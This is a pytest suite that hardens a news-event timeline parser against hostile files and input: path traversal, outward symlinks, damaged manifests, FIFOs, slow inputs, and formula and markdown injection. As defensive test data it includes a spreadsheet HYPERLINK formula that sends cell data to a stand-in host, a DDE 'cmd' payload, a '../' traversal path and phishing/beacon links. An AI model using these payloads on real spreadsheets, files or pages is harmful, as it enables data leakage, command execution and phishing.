"""Hostile files, names and input: nothing outside its folder touched, nothing lost, no hang.

One section per item of the safety issue (corpus manifest, damaged parts, moved archives,
orphan workers, empty runs, spreadsheet formulas, odd files, quadratic input, dashboard
markdown). Inputs are generated here (bench/_adversarial.py for the big shapes); no large
file is committed.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import json
import os
import re
import signal
import subprocess
import sys
import textwrap
import time
import tomllib
from collections.abc import Sequence
from pathlib import Path
from typing import TYPE_CHECKING

import pandas as pd
import pytest
from click.testing import CliRunner

from timeline.cli import cli
from timeline.corpus import MANIFEST, Manifest, dataset_files, parse_corpus, read_dataset
from timeline.export import events_bytes, read_events, write_events
from timeline.schema import new_frame
from timeline.store import EventStore

if TYPE_CHECKING:
    from streamlit.testing.v1 import AppTest

ROOT = Path(__file__).resolve().parent.parent
TESTS = Path(__file__).resolve().parent
sys.path.insert(0, str(ROOT))
sys.path.insert(0, str(TESTS))

from test_corpus import assert_same_events, fake_work, make_corpus  # noqa: E402

from bench._adversarial import generate  # noqa: E402

ARTICLE = (
    "Serbia demands return of troops\n\n15 December 2022\n\n"
    "Serbia on Thursday formally demanded that its security forces return to Kosovo.\n"
    "Prime Minister Albin Kurti submitted the application on Thursday.\n"
)


def invoke(*args: str) -> tuple[int, str]:
    """Run the CLI; its exit code and standard error. A traceback fails the test."""
    result = CliRunner().invoke(cli, list(args))
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError(f"traceback: {result.exception!r}") from result.exception
    return result.exit_code, result.stderr


def part_files(out: Path) -> set[Path]:
    return set(out.rglob("*.parquet"))


# -- 7. the manifest is validated ---------------------------------------------------------------


def _append(out: Path, *records: object) -> None:
    with (out / MANIFEST).open("ab") as handle:
        for record in records:
            text = record if isinstance(record, str) else json.dumps(record)
            handle.write(text.encode() + b"\n")


def test_a_crafted_part_path_never_touches_a_file_outside_the_dataset(tmp_path: Path) -> None:
    paths = make_corpus(tmp_path / "in", 2)
    out = tmp_path / "ds"
    parse_corpus([], out, workers=1, paths=paths, work=fake_work)
    victim = tmp_path / "victim.parquet"
    victim.write_text("precious")
    entry = Manifest(out).entries[str(paths[0].resolve())]
    # The article's events said to be in a file two folders up; a change to the article
    # would then "drop" that part.
    crafted = {**entry.as_json(), "part": "../victim.parquet"}
    _append(out, {"articles": [crafted]}, {"drop": ["../victim.parquet"]})
    paths[0].write_text("Changed\n2022-12-15\nSerbs erected barricades.\n", encoding="utf-8")
    with pytest.raises(ValueError, match=r"line \d+: damaged .*--repair"):
        parse_corpus([], out, workers=1, paths=paths, work=fake_work)
    assert victim.read_text() == "precious"
    code, err = invoke("parse", str(paths[0]), "--out", str(out), "-q")
    assert code == 1 and "is not a part file of a dataset" in err
    assert victim.read_text() == "precious"


def test_a_part_linked_out_of_the_dataset_is_not_read_or_deleted(tmp_path: Path) -> None:
    paths = make_corpus(tmp_path / "in", 2)
    out = tmp_path / "ds"
    parse_corpus([], out, workers=1, paths=paths, work=fake_work)
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    folder = dataset_files(out)[0].parent
    for part in folder.iterdir():
        part.rename(outside / part.name)
    folder.rmdir()
    folder.symlink_to(outside)  # the partition folder now leads out of the dataset
    before = {p.name: p.read_bytes() for p in outside.iterdir()}
    with EventStore(out, materialize=True) as store:  # readers leave those parts out
        assert any("outside the dataset" in w for w in store.warnings)
    with pytest.raises(ValueError, match="leads outside the dataset folder"):
        parse_corpus([], out, workers=1, paths=paths, work=fake_work)
    assert {p.name: p.read_bytes() for p in outside.iterdir()} == before
    folder.unlink()  # the user removes the link: the articles are parsed again, inside
    parse_corpus([], out, workers=1, paths=paths, work=fake_work)
    assert_same_events(out, paths)
    assert {p.name: p.read_bytes() for p in outside.iterdir()} == before


def test_a_garbage_line_in_the_middle_stops_the_run_and_repair_restores_everything(
    tmp_path: Path,
) -> None:
    paths = make_corpus(tmp_path / "in", 6)
    out = tmp_path / "ds"
    parse_corpus([], out, workers=1, paths=paths[:3], work=fake_work)
    parse_corpus([], out, workers=1, paths=paths[3:], work=fake_work)
    lines = (out / MANIFEST).read_bytes().splitlines(keepends=True)
    assert len(lines) >= 2
    (out / MANIFEST).write_bytes(lines[0] + b"\x00garbage{\n" + b"".join(lines[1:]))
    before = part_files(out)
    with pytest.raises(ValueError, match=r"line 2: damaged \(not valid JSON\).*--repair"):
        parse_corpus([], out, workers=1, paths=paths, work=fake_work)
    assert part_files(out) == before, "nothing may be deleted on the strength of a bad log"
    code, err = invoke("parse", *map(str, paths), "--out", str(out), "-q")
    assert code == 1 and "line 2" in err and "--repair" in err
    assert part_files(out) == before
    # The repair drops the bad line; whatever it described is parsed again, once.
    result = parse_corpus([], out, workers=1, paths=paths, work=fake_work, repair=True)
    assert any("line 2" in w for w in result.warnings)
    assert_same_events(out, paths)
    assert Manifest(out).problems == []


def test_a_torn_last_line_alone_is_skipped(tmp_path: Path) -> None:
    paths = make_corpus(tmp_path / "in", 3)
    out = tmp_path / "ds"
    parse_corpus([], out, workers=1, paths=paths, work=fake_work)
    with (out / MANIFEST).open("ab") as handle:
        handle.write(b'{"articles":[{"key":')
    result = parse_corpus([], out, workers=1, paths=paths, work=fake_work)
    assert (result.skipped, result.parsed) == (3, 0)


@pytest.mark.parametrize(
    "line",
    [
        "[1, 2, 3]",
        '{"articles": [{"key": 1}]}',
        '{"articles": "everything"}',
        '{"drop": "published_year=2022"}',
        '{"articles": [], "delete_everything": true}',
        '{"sizes": {"published_year=2022/part-00.parquet": 3}}',
        "[" * 100_000 + "]" * 100_000,
    ],
)
def test_a_wrong_shaped_line_gives_a_clear_error(tmp_path: Path, line: str) -> None:
    paths = make_corpus(tmp_path / "in", 2)
    out = tmp_path / "ds"
    parse_corpus([], out, workers=1, paths=paths, work=fake_work)
    _append(out, line, {"forget": []})
    code, err = invoke("parse", *map(str, paths), "--out", str(out), "-q")
    assert code == 1
    assert re.search(r"_manifest\.jsonl, line \d+: damaged \(.+\); nothing was changed", err)


def test_readers_open_the_valid_lines_of_a_damaged_manifest_with_a_warning(
    tmp_path: Path,
) -> None:
    paths = make_corpus(tmp_path / "in", 4)
    out = tmp_path / "ds"
    parse_corpus([], out, workers=1, paths=paths, work=fake_work)
    _append(out, "not json at all", {"forget": []})
    with EventStore(out, materialize=True) as store:
        assert store.count() == len(read_dataset(out)) > 0
        assert any("not valid JSON" in w for w in store.warnings)


# -- 8. damage is detected and repaired ---------------------------------------------------------


@pytest.mark.parametrize("damage", ["truncate", "delete", "same size, garbage"])
def test_a_damaged_part_is_found_and_its_articles_parsed_again(tmp_path: Path, damage: str) -> None:
    paths = make_corpus(tmp_path / "in", 8)
    out = tmp_path / "ds"
    parse_corpus([], out, workers=1, paths=paths, work=fake_work)
    part = dataset_files(out)[0]
    data = part.read_bytes()
    if damage == "truncate":
        part.write_bytes(data[: len(data) // 2])
    elif damage == "delete":
        part.unlink()
    else:
        part.write_bytes(b"\x00" * len(data))
    # The store opens the other parts and says what it left out.
    with EventStore(out, materialize=True) as store:
        assert 0 < store.count() < len(expected_events(paths))
        assert any(part.name in w for w in store.warnings)
    result = parse_corpus([], out, workers=1, paths=paths, work=fake_work)
    assert any(part.name in w and "parsed again" in w for w in result.warnings)
    assert result.parsed > 0
    assert_same_events(out, paths)


def expected_events(paths: Sequence[Path]) -> pd.DataFrame:
    return pd.concat([fake_work(p, None)[0] for p in paths], ignore_index=True)


def test_a_dashboard_store_with_a_missing_part_shows_the_rest(tmp_path: Path) -> None:
    from timeline import view

    paths = make_corpus(tmp_path / "in", 6)
    out = tmp_path / "ds"
    parse_corpus([], out, workers=1, paths=paths, work=fake_work)
    dataset_files(out)[-1].unlink()
    assert view.data_version(out) >= 0  # the version check does not fail either
    with EventStore(out) as store:
        assert store.count() > 0 and store.warnings


# -- 9. moving the archive does not duplicate it ------------------------------------------------


def test_a_renamed_archive_folder_is_reused_not_duplicated(tmp_path: Path) -> None:
    paths = make_corpus(tmp_path / "archive", 6)
    out = tmp_path / "ds"
    parse_corpus([tmp_path / "archive"], out, workers=1, work=fake_work)
    events = len(read_dataset(out))
    (tmp_path / "archive").rename(tmp_path / "archive-2022")
    result = parse_corpus([tmp_path / "archive-2022"], out, workers=1, work=fake_work)
    assert (result.parsed, result.skipped, result.moved) == (0, 6, 6)
    frame = read_dataset(out)
    assert len(frame) == events and frame["event_id"].is_unique
    moved = [tmp_path / "archive-2022" / p.name for p in paths]
    assert set(Manifest(out).entries) == {str(p.resolve()) for p in moved}
    # A copy that still exists beside the original is a second article, as asked.
    copy = tmp_path / "copy"
    copy.mkdir()
    (copy / "a000.txt").write_bytes(moved[0].read_bytes())
    again = parse_corpus([tmp_path / "archive-2022", copy], out, workers=1, work=fake_work)
    assert (again.parsed, again.moved) == (1, 0)


# -- 10. no orphan keeps the lock ---------------------------------------------------------------

_SLOW_RUN = """
import sys, time
sys.path[:0] = [{root!r}, {tests!r}]
from pathlib import Path
from test_adversarial import slow_work
from timeline.corpus import parse_corpus

paths = sorted(Path({folder!r}).glob("*.txt"))
parse_corpus([], {out!r}, workers=2, paths=paths, work=slow_work, chunk_size=1)
"""


def slow_work(path: Path, published: dt.date | None) -> tuple[pd.DataFrame, Sequence[str]]:
    """A parse that takes a minute (it marks its start beside the article)."""
    (path.parent / f"started-{os.getpid()}").touch()
    time.sleep(60)
    return fake_work(path, published)


def test_a_killed_run_leaves_no_worker_holding_the_lock(tmp_path: Path) -> None:
    make_corpus(tmp_path / "in", 4)
    out = tmp_path / "ds"
    script = _SLOW_RUN.format(
        root=str(ROOT), tests=str(TESTS), folder=str(tmp_path / "in"), out=str(out)
    )
    proc = subprocess.Popen([sys.executable, "-c", textwrap.dedent(script)])
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and len(list((tmp_path / "in").glob("started-*"))) < 2:
        time.sleep(0.05)
    assert len(list((tmp_path / "in").glob("started-*"))) == 2, "the workers never started"
    workers = [int(p.name.split("-")[1]) for p in (tmp_path / "in").glob("started-*")]
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    # The next run gets the dataset within a few seconds, not when the orphans finish.
    deadline = time.monotonic() + 10
    while True:
        try:
            parse_corpus([], out, workers=1, paths=[], work=fake_work)
            break
        except ValueError as exc:
            assert "another parse" in str(exc)
            if time.monotonic() > deadline:
                for pid in workers:  # do not leave them behind for a minute
                    kill(pid)
                raise AssertionError("a worker of the killed run still holds the lock") from None
            time.sleep(0.2)
    for pid in workers:
        assert not alive(pid)


def alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    # a zombie has exited: it is only waiting for its (dead) parent to collect it
    status = Path(f"/proc/{pid}/stat")
    return not (status.exists() and status.read_text().split(") ")[-1].startswith("Z"))


def kill(pid: int) -> None:
    with contextlib.suppress(ProcessLookupError):
        os.kill(pid, signal.SIGKILL)


# -- 11. a run that parses nothing keeps the old output -----------------------------------------


@pytest.mark.parametrize("suffix", ["csv", "json", "parquet"])
def test_a_run_that_reads_nothing_keeps_the_old_output(tmp_path: Path, suffix: str) -> None:
    article = tmp_path / "kosovo.txt"
    article.write_text(ARTICLE, encoding="utf-8")
    keep = tmp_path / f"keep.{suffix}"
    assert invoke("parse", str(article), "--out", str(keep), "-q")[0] == 0
    good = keep.read_bytes()
    code, err = invoke("parse", str(tmp_path / "typo.txt"), "--out", str(keep), "-q")
    assert code == 1 and "typo.txt: no such file" in err and "left as it was" in err
    assert keep.read_bytes() == good
    empty = tmp_path / "empty"
    empty.mkdir()
    assert invoke("parse", str(empty), "--out", str(keep), "-q")[0] == 1
    assert keep.read_bytes() == good
    # Asked for: an empty table replaces it.
    code, _ = invoke("parse", str(empty), "--out", str(keep), "-q", "--allow-empty")
    assert code == 0 and read_events(keep).empty


# -- 12. CSV is safe in a spreadsheet -----------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
    "plain text",
    "'quoted but harmless",
)


def formula_frame() -> pd.DataFrame:
    rows = []
    for i, text in enumerate(FORMULAS):
        rows.append(
            {
                "event_id": f"e{i}",
                "article_id": text,
                "source": text,
                "source_path": "a.txt",
                "sentence": text,
                "text": text,
                "char_start": 0,
                "char_end": 1,
                "actors": [text, "Serbia"],
                "targets": [],
                "countries": [],
                "country_codes": [],
                "event_type": "STATEMENT",
                "date_basis": "none",
            }
        )
    return new_frame(rows)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    frame = formula_frame()
    data = events_bytes(frame, "csv").decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(data, newline="")) for cell in row]
    for cell in cells:
        assert not re.match(r"[=+\-@\t\r]", cell), cell
    assert "'=HYPERLINK(" in data and "'-2+3" in data and "''=already quoted" in data
    # JSON and Parquet keep the text as written.
    assert json.loads(events_bytes(frame, "json"))[0]["sentence"] == FORMULAS[0]
    write_events(frame, tmp_path / "e.parquet")
    assert pd.read_parquet(tmp_path / "e.parquet")["sentence"].tolist() == list(FORMULAS)
    # Our own CSV reads back exactly as it was.
    write_events(frame, tmp_path / "e.csv")
    back = read_events(tmp_path / "e.csv")
    assert back["sentence"].tolist() == list(FORMULAS)
    # (list items are stripped of white space when a CSV cell is split)
    assert back["actors"].tolist() == [[text.strip(), "Serbia"] for text in FORMULAS]


def test_the_cli_csv_of_a_hostile_article_is_neutralised(tmp_path: Path) -> None:
    article = tmp_path / "formula.txt"
    article.write_text(
        "=HYPERLINK(1) headline\n\n15 December 2022\n\n"
        '=HYPERLINK("http://x.example") Serbia on Thursday demanded that its troops return.\n',
        encoding="utf-8",
    )
    out = tmp_path / "out.csv"
    assert invoke("parse", str(article), "--out", str(out), "-q")[0] == 0
    rows = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
    assert rows and all(row["sentence"].startswith("'=HYPERLINK") for row in rows)
    assert all(row["source"].startswith("'=") for row in rows)


def test_the_dashboard_downloads_go_through_the_one_csv_writer() -> None:
    text = (ROOT / "dashboard.py").read_text(encoding="utf-8")
    assert "events_bytes(" in text and ".to_csv(" not in text


# -- 13. temporary files, odd names, unreadable entries -----------------------------------------

_KILLED_WRITE = """
import sys, time
sys.path[:0] = [{root!r}]
from timeline._io import atomic_writer

def slow(handle):
    handle.write(b"half")
    handle.flush()
    print("writing", flush=True)
    time.sleep(60)

atomic_writer({target!r}, slow)
"""


def test_temporary_files_of_a_killed_write_are_removed_by_the_next_write(tmp_path: Path) -> None:
    target = tmp_path / "events.csv"
    script = _KILLED_WRITE.format(root=str(ROOT), target=str(target))
    proc = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE)
    assert proc.stdout is not None and proc.stdout.readline() == b"writing\n"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    left = list(tmp_path.glob(".events.csv.*.tmp"))
    assert left and not target.exists()
    article = tmp_path / "kosovo.txt"
    article.write_text(ARTICLE, encoding="utf-8")
    assert invoke("parse", str(article), "--out", str(target), "-q")[0] == 0
    assert not list(tmp_path.glob("*.tmp")) and not list(tmp_path.glob(".*.tmp"))


def test_a_stale_temporary_part_in_a_dataset_is_removed_by_the_next_run(tmp_path: Path) -> None:
    paths = make_corpus(tmp_path / "in", 2)
    out = tmp_path / "ds"
    parse_corpus([], out, workers=1, paths=paths, work=fake_work)
    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout.strip()
    stale = dataset_files(out)[0].parent / f".part-{'c' * 32}.parquet.{dead}.abcd1234.tmp"
    stale.write_bytes(b"half a part")
    parse_corpus([], out, workers=1, paths=paths, work=fake_work)
    assert not stale.exists()


def test_an_over_long_name_fails_alone_without_a_traceback(tmp_path: Path) -> None:
    good = tmp_path / "kosovo.txt"
    good.write_text(ARTICLE, encoding="utf-8")
    long_name = str(tmp_path / ("x" * 300 + ".txt"))
    out = tmp_path / "out.csv"
    code, err = invoke("parse", long_name, str(good), "--out", str(out), "-q")
    assert code == 1 and "xxxx.txt: cannot be read (File name too long)" in err
    assert len(read_events(out)) > 0  # the other article was parsed and written
    code, err = invoke("parse", str(good), "--out", str(tmp_path / ("y" * 300 + ".csv")))
    assert code == 1 and "cannot write" in err and "File name too long" in err
    code, err = invoke("parse", str(good), "--out", str(tmp_path / ("z" * 300)), "-q")
    assert code == 1 and "File name too long" in err
    code, err = invoke("chart", long_name, "--out", str(tmp_path / "c.html"))
    assert code == 1 and "File name too long" in err


def test_odd_file_names_are_parsed_and_written(tmp_path: Path) -> None:
    folder = tmp_path / "odd"
    folder.mkdir()
    for name in (b"new\nline.txt", b"latin-\xe9t\xe9.txt", b"-dash.txt", b"[x](y).txt"):
        (folder / os.fsdecode(name)).write_bytes(ARTICLE.encode())
    for suffix in ("csv", "json", "parquet"):
        out = tmp_path / f"odd.{suffix}"
        code, err = invoke("parse", str(tmp_path / "odd"), "--out", str(out), "-q")
        assert code == 0, err
        frame = read_events(out)
        assert frame["source_path"].nunique() == 4
    ds = tmp_path / "odd_ds"
    code, err = invoke("parse", str(tmp_path / "odd"), "--out", str(ds), "-q", "--workers", "1")
    assert code == 0, err
    assert read_dataset(ds)["source_path"].nunique() == 4


def test_dangling_links_fifos_and_closed_folders_are_named_not_skipped(tmp_path: Path) -> None:
    folder = tmp_path / "archive"
    folder.mkdir()
    (folder / "kosovo.txt").write_text(ARTICLE, encoding="utf-8")
    (folder / "gone.txt").symlink_to(tmp_path / "deleted.txt")
    os.mkfifo(folder / "pipe.txt")
    closed = folder / "closed"
    closed.mkdir()
    (closed / "inside.txt").write_text(ARTICLE, encoding="utf-8")
    closed.chmod(0)
    try:
        # In a subprocess with a time limit: a read that blocks on the FIFO fails the test.
        run = subprocess.run(
            [
                sys.executable,
                "-m",
                "timeline",
                "parse",
                str(folder),
                "--out",
                str(tmp_path / "out.csv"),
                "-q",
            ],
            capture_output=True,
            text=True,
            timeout=120,
            cwd=tmp_path,
        )
        ds = subprocess.run(
            [
                sys.executable,
                "-m",
                "timeline",
                "parse",
                str(folder),
                str(folder / "pipe.txt"),
                "--out",
                str(tmp_path / "ds"),
                "-q",
                "--workers",
                "1",
            ],
            capture_output=True,
            text=True,
            timeout=120,
            cwd=tmp_path,
        )
    finally:
        closed.chmod(0o755)
    for done in (run, ds):
        assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
        assert "gone.txt: dangling link" in done.stderr
        assert "pipe.txt: a FIFO" in done.stderr
        if os.geteuid() != 0:  # root reads every folder
            assert "closed: folder cannot be read (Permission denied)" in done.stderr
    assert len(read_events(tmp_path / "out.csv")) > 0
    assert len(read_dataset(tmp_path / "ds")) > 0


def test_a_fifo_named_on_the_command_line_fails_alone(tmp_path: Path) -> None:
    good = tmp_path / "kosovo.txt"
    good.write_text(ARTICLE, encoding="utf-8")
    os.mkfifo(tmp_path / "pipe.txt")
    run = subprocess.run(
        [
            sys.executable,
            "-m",
            "timeline",
            "parse",
            str(tmp_path / "pipe.txt"),
            str(good),
            "--out",
            str(tmp_path / "out.csv"),
            "-q",
        ],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=tmp_path,
    )
    assert run.returncode == 1 and "pipe.txt: a FIFO (named pipe), not an article" in run.stderr
    assert len(read_events(tmp_path / "out.csv")) > 0


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads every file")
def test_an_unreadable_file_named_on_the_command_line_fails_alone(tmp_path: Path) -> None:
    good, secret = tmp_path / "kosovo.txt", tmp_path / "secret.txt"
    for path in (good, secret):
        path.write_text(ARTICLE, encoding="utf-8")
    secret.chmod(0)
    hidden = tmp_path / "closed"
    hidden.mkdir()
    (hidden / "a.txt").write_text(ARTICLE, encoding="utf-8")
    hidden.chmod(0)
    try:
        code, err = invoke(
            "parse",
            str(secret),
            str(hidden / "a.txt"),
            str(good),
            "--out",
            str(tmp_path / "o.csv"),
            "-q",
        )
    finally:
        hidden.chmod(0o755)
    assert code == 1 and "secret.txt: cannot be read (Permission denied)" in err
    assert "a.txt: cannot be read (Permission denied)" in err
    assert len(read_events(tmp_path / "o.csv")) > 0


# -- 14. hostile input stays cheap --------------------------------------------------------------


def _parse_seconds(family: str, size: int) -> float:
    from timeline.article import article_from_bytes
    from timeline.events import extract_events

    name, data = generate(family, size)
    best = float("inf")
    for _ in range(2):
        started = time.process_time()  # CPU time: other processes' turns do not count
        extract_events(article_from_bytes(data, name=name))
        best = min(best, time.process_time() - started)
    return best


@pytest.mark.slow
@pytest.mark.parametrize(
    "family", ["nested_html", "nested_inline", "bare_quotes", "many_quotes", "clause_chain"]
)
def test_hostile_shapes_parse_in_linear_time(family: str) -> None:
    # One run, two sizes: a linear parse takes about 4 times as long at 4 times the size,
    # a quadratic one 16 times (bench/adversarial.py measures every family at 1x, 4x, 16x).
    _parse_seconds(family, 4096)  # warm up
    small, large = _parse_seconds(family, 48_000), _parse_seconds(family, 192_000)
    assert large / small < 9, f"{family}: {small:.2f} s then {large:.2f} s at 4x the size"


def test_no_sentence_is_longer_than_the_cap() -> None:
    from timeline.sentences import MAX_SENTENCE, split_sentences

    _, data = generate("long_line", 50_000)
    text = data.decode()
    spans = split_sentences(text)
    assert max(e - s for s, e in spans) <= MAX_SENTENCE
    covered = "".join(text[s:e] for s, e in spans)
    assert covered.replace(" ", "") == "".join(text.split()).replace(" ", "")


def test_the_work_per_article_is_bounded_in_the_cli_and_the_workers(tmp_path: Path) -> None:
    big = tmp_path / "big.txt"
    big.write_bytes(generate("dated_sentences", 1_500_000)[1])
    good = tmp_path / "kosovo.txt"
    good.write_text(ARTICLE, encoding="utf-8")
    out = tmp_path / "out.csv"
    code, err = invoke(
        "parse", str(big), str(good), "--out", str(out), "-q", "--max-seconds", "0.3"
    )
    assert code == 1 and "big.txt: parsing stopped after 0.3 s, the limit per article" in err
    assert set(read_events(out)["article_id"]) == {"kosovo"}
    result = parse_corpus([], tmp_path / "ds", workers=1, paths=[big, good], max_seconds=0.3)
    assert [e.path for e in result.errors] == [str(big)]
    assert "parsing stopped after 0.3 s" in result.errors[0].message
    assert result.parsed == 1


def test_the_dashboard_parse_has_the_same_budget() -> None:
    import inspect

    from timeline.events import MAX_SECONDS
    from timeline.pipeline import parse_article

    assert inspect.signature(parse_article).parameters["max_seconds"].default == MAX_SECONDS
    # The dashboard's added articles are parsed in ui_articles.py.
    assert "parse_article(" in (ROOT / "ui_articles.py").read_text(encoding="utf-8")


# -- 15. the dashboard renders no markdown it did not write -------------------------------------

_LINK = "[login](http://phish.example/x)"
_IMAGE = "![beacon](http://beacon.example/p.png)"


def _rendered(at: AppTest) -> list[str]:
    bodies = []
    for kind in ("caption", "markdown", "error", "warning", "info", "success", "subheader"):
        for element in getattr(at, kind):
            bodies.append(str(element.value))
        for element in getattr(at.sidebar, kind):
            bodies.append(str(element.value))
    return bodies


def _active(markdown: str) -> bool:
    """Whether markdown would render a link, an image or an auto-link."""
    unescaped = re.sub(r"\\.", "", markdown)
    return bool(re.search(r"\]\(|https?://|www\.|<[a-z]", unescaped))


def test_query_parameters_and_upload_names_render_as_text(tmp_path, monkeypatch, seed_events):
    from streamlit.testing.v1 import AppTest

    folder = tmp_path / "data"
    write_events(seed_events, folder / "events.parquet")
    monkeypatch.setenv("TIMELINE_DATA_DIR", str(folder))
    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=120)
    at.query_params["q"] = f"Serbia {_LINK} {_IMAGE} www.phish.example"
    at.query_params["actor"] = _IMAGE
    at.run()
    assert not at.exception and at.title, "the page did not render"
    at.file_uploader[0].set_value([(f"{_LINK}{_IMAGE}.txt", b"\x00 binary", "text/plain")])
    at.run()
    bodies = _rendered(at)
    assert any("phish" in b for b in bodies), "the crafted text is not shown at all"
    assert any("beacon" in b for b in bodies)
    active = [b for b in bodies if _active(b)]
    assert not active, active


def test_uploads_larger_than_an_article_are_refused_by_the_server() -> None:
    from timeline.article import MAX_BYTES

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["maxUploadSize"] * 1024 * 1024 == MAX_BYTES
